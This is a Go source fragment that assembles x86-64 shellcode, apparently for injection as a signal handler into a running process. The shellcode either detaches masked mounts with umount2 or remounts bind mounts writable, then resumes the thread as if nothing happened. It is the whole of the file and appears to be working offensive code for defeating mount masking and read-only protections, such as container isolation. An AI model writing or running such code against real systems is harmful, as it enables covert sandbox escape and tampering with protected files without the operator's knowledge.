package main

import "encoding/binary"

// shellcode is x86-64 code run as a signal handler: one system call on path,
// then ret, which returns to the handler's restorer (rt_sigreturn), so the
// interrupted thread carries on as if the signal had been ignored.
//
//	unmask:  umount2(path, MNT_DETACH)
//	remount: mount(NULL, path, NULL, MS_REMOUNT|MS_BIND, NULL), which drops
//	         a bind's read-only flag
func shellcode(kind, path string) []byte {
	var code []byte
	var rel int // offset of the rel32 of the lea that loads path
	switch kind {
	case "unmask":
		code = []byte{
			0x48, 0x8d, 0x3d, 0, 0, 0, 0, // lea rdi, [rip+path]
			0xbe, 0x02, 0, 0, 0, // mov esi, MNT_DETACH
			0xb8, 0xa6, 0, 0, 0, // mov eax, SYS_umount2
			0x0f, 0x05, // syscall
			0xc3, // ret
		}
		rel = 3
	case "remount":
		code = []byte{
			0x31, 0xff, // xor edi, edi
			0x48, 0x8d, 0x35, 0, 0, 0, 0, // lea rsi, [rip+path]
			0x31, 0xd2, // xor edx, edx
			0x41, 0xba, 0x20, 0x10, 0, 0, // mov r10d, MS_REMOUNT|MS_BIND
			0x45, 0x31, 0xc0, // xor r8d, r8d
			0xb8, 0xa5, 0, 0, 0, // mov eax, SYS_mount
			0x0f, 0x05, // syscall
			0xc3, // ret
		}
		rel = 5
	default:
		return nil
	}
	binary.LittleEndian.PutUint32(code[rel:], uint32(len(code)-(rel+4)))
	return append(code, append([]byte(path), 0)...)
}
